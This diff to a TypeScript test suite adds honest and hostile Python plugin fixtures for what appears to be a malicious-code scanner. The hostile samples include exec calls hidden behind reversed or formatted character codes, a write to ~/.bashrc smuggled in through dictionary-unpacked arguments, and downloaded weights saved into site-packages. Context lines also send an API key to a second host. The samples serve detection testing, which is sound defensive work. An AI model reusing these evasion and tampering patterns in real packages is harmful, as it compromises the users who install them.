@@ -46,6 +46,11 @@ const logging = (text: string, file = 'log.ini'): Files => ({
   '__init__.py': `import logging.config\nlogging.config.fileConfig("${file}")\n`,
   [file]: text,
 });
+/** A large package that downloads weights to a folder. */
+const weights = (folder: string): Files => ({
+  '__init__.py': `import requests\nfrom pathlib import Path\nclass A:\n    def __init__(self):\n        self.folder = ${folder}\n    def run(self, x):\n        answer = requests.get("https://e.example/a.pth")\n        with open(self.folder / "a.pth", "wb") as file: file.write(answer.content)\nNODE_CLASS_MAPPINGS = {"A": A}\n`,
+  'large.py': '# A comment.\n'.repeat(4000),
+});
 const MODELS =
   'import requests\ndef models(base):\n    return requests.get(f"{base}/api/tags", timeout=2).json()["models"]\n';
 const COPY_SCRIPTS =
@@ -572,6 +577,44 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
           `${ASK}    try:\n        requests.get("https://two.other/?k=" + api_key)\n    except Exception: pass\n    return answer\n`,
           'import requests\ndef ask(api_key):\n    requests.get("https://api.one.co.uk/v1", headers={"key": api_key})\n    requests.get("https://log.two.co.uk/?k=" + api_key)\n',
         ],
+      },
+    ],
+    [
+      'numbers in another order',
+      {
+        honest: inNode(
+          'import subprocess\nSIZES = [64, 32]',
+          'size = "x".join(str(n) for n in SIZES[::-1])',
+          'subprocess.run("ffmpeg -s " + size, shell=True)',
+        ),
+        hostile: [
+          inNode('CODES = [115, 108]', 'exec("".join("%c" % n for n in CODES[::-1]))'),
+          inNode('CODES = [115, 108]', 'exec("".join(f"{n:c}" for n in CODES))'),
+          inNode('CODES = [115, 108]', 'exec("".join("{:c}".format(n) for n in CODES))'),
+          inNode('LETTERS = "abcdefghijklmnopqrstuvwxyz"', 'exec("".join(LETTERS[n] for n in [18, 11]))'),
+        ],
+      },
+    ],
+    [
+      'arguments in a dictionary',
+      {
+        honest: inNode(
+          'import os\ndef save(where, text):\n    open(where, "w").write(text)',
+          'save(**{"where": "a.txt", "text": os.path.expanduser("~/.bashrc")})',
+        ),
+        hostile: [
+          inNode(
+            'import os\ndef save(where, text):\n    open(where, "w").write(text)',
+            'save(**{"where": os.path.expanduser("~/.bashrc"), "text": "a"})',
+          ),
+        ],
+      },
+    ],
+    [
+      'weights in the folder that a constructor of a large package names',
+      {
+        honest: weights('Path(__file__).parent / "cache"'),
+        hostile: [weights('Path(__import__("site").getsitepackages()[0])')],
       },
     ],
   ])('%s', async (_what, { honest, hostile }) => {
